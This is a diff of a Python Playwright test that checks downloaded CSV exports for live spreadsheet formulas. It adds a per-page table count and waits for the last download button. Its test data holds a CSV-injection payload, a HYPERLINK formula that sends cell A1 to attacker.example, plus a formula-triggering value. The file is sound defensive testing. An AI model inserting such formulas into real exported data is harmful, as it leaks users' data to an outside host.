@@ -88,17 +88,20 @@ def test_hostile_text_is_shown_as_text_in_the_browser(hostile_server, chromium, 
         page.close()
 
 
-@pytest.mark.parametrize("path, formula", [
-    ("incidents", '=HYPERLINK("http://attacker.example/?"&A1,"open")'),
-    ("action_items", "-2+3"),
+@pytest.mark.parametrize("path, formula, tables", [
+    ("incidents", '=HYPERLINK("http://attacker.example/?"&A1,"open")', 1),
+    ("action_items", "-2+3", 2),
 ])
-def test_a_downloaded_csv_never_carries_a_live_formula(hostile_server, chromium, path, formula):
+def test_a_downloaded_csv_never_carries_a_live_formula(hostile_server, chromium, path, formula, tables):
     page = open_page(chromium, f"{hostile_server}/{path}?range=all&as_of={AS_OF}", charts=False)
     try:
         cells = []
         buttons = page.locator('[data-testid="stDownloadButton"] button')
-        buttons.first.wait_for(timeout=WAIT_MS)
-        for index in range(buttons.count()):
+        # The browser may still be drawing the page's lower part (the chase list below a chart) when the
+        # script run has ended: wait for the page's last table's button before counting them.
+        buttons.nth(tables - 1).wait_for(timeout=WAIT_MS)
+        assert buttons.count() == tables
+        for index in range(tables):
             with page.expect_download(timeout=WAIT_MS) as download:
                 buttons.nth(index).click()
             rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))
